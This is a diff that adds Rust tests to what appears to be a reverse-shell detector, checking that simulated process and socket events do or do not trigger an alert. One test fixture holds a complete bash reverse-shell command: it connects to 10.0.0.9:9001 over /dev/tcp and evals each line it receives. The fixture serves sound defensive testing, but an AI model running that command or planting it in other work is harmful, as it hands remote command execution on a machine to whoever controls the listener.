@@ -218,3 +218,53 @@ fn two_clients_of_one_relay_are_two_sessions() {
         "a shell within the first session"
     );
 }
+
+#[test]
+fn a_program_that_connects_by_itself_and_executes_what_it_reads() {
+    let mut world = World::new();
+    let text = "exec 3<>/dev/tcp/10.0.0.9/9001; while read -r l <&3; do eval \"$l\" >&3; done";
+    assert!(
+        world.exec(INIT, 11, bash(), "/bin/bash", &["bash", "-c", text], &[tcp(7, 40, Accepted)]).is_none()
+    );
+    world.opens(11, &[tcp(3, 50, Connected)]);
+    let found = world.again(11).unwrap();
+    assert_eq!((found.metadata.module, found.endpoint.unwrap().inode), (MODULE, 50));
+}
+
+#[test]
+fn quiet_for_a_program_that_connects_and_reads_only() {
+    let mut world = World::new();
+    let text = "exec 3<>/dev/tcp/10.0.0.9/9001; head -1 <&3";
+    world.exec(INIT, 11, bash(), "/bin/bash", &["bash", "-c", text], &[]);
+    world.opens(11, &[tcp(3, 50, Connected)]);
+    assert!(world.again(11).is_none());
+}
+
+#[test]
+fn commands_from_another_descriptor() {
+    let mut world = World::new();
+    let found = world.exec(INIT, 11, bash(), "/bin/bash", &["bash", "/dev/fd/5"], &[tcp(5, 50, Connected)]);
+    assert_eq!(found.unwrap().endpoint.unwrap().inode, 50);
+    let substituted = [reads_pipe(63, 70)];
+    assert!(world.exec(INIT, 12, bash(), "/bin/bash", &["bash", "/dev/fd/63"], &substituted).is_none());
+}
+
+#[test]
+fn quiet_for_a_command_that_an_inline_program_always_runs() {
+    let mut world = World::new();
+    let text = "import os,http.client; print(os.popen('uname -p').read())";
+    world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "-c", text], &[]);
+    world.opens(10, &[tcp(3, 50, Connected), reads_pipe(5, 70)]);
+    let command = |text| ["sh", "-c", text];
+    assert!(world.exec(10, 11, bash(), "/bin/sh", &command("uname -p"), &[writes_pipe(1, 70)]).is_none());
+    assert!(world.exec(10, 12, bash(), "/bin/sh", &command("id"), &[writes_pipe(1, 70)]).is_some());
+}
+
+#[test]
+fn a_server_of_logins_is_known_by_more_than_words() {
+    let mut world = World::new();
+    world.genuine = false;
+    world.exec(INIT, 10, Kind::SshServer(SshServer::OpenSsh), "/usr/sbin/sshd", &["sshd: u@pts/0"], &[]);
+    world.opens(10, &[tcp(3, 50, Accepted), master(4, 2)]);
+    assert!(world.exec(10, 11, bash(), "/bin/bash", &["-bash"], &[slave(0, 2), slave(1, 2)]).is_some());
+}
